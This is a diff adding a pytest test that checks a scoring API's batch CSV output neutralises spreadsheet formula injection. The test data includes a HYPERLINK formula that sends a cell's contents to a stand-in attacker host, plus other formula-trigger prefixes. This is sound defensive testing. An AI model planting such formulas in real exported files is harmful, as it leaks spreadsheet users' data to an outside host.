@@ -158,6 +158,27 @@ def test_batch_scoring(trained: Api) -> None:
     assert bad.status_code == 422 and "Torque [Nm]" in bad.json()["detail"]
 
 
+def test_batch_result_neutralises_spreadsheet_formulas(trained: Api) -> None:
+    api = trained
+    frame = _table(6, seed=4).drop(columns=["failure"])
+    cells = ['=HYPERLINK("http://evil.example/?d="&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
+    frame["serial"] = cells
+    frame.loc[0, "Speed [rpm]"] = -1.25  # a real negative number stays a number
+    response = api.client.post(
+        "/v1/models/line1/batch?version=1",
+        headers=api.headers("builder"),
+        files={"file": ("new.csv", frame.to_csv(index=False).encode(), "text/csv")},
+    )
+    assert response.status_code == 202, response.text
+    api.run_jobs()
+    result = api.client.get(f"/v1/jobs/{response.json()['id']}/result", headers=api.headers("builder"))
+    assert result.status_code == 200
+    scored = pd.read_csv(io.BytesIO(result.content), keep_default_na=False)
+    assert scored["serial"].tolist()[:5] == ["'" + c for c in cells[:5]]
+    assert scored["serial"].tolist()[5].startswith("'")  # a bare CR may be read as a line end
+    assert scored["Speed [rpm]"].dtype.kind == "f" and scored.loc[0, "Speed [rpm]"] == -1.25
+
+
 @pytest.mark.parametrize(
     ("change", "loc"),
     [
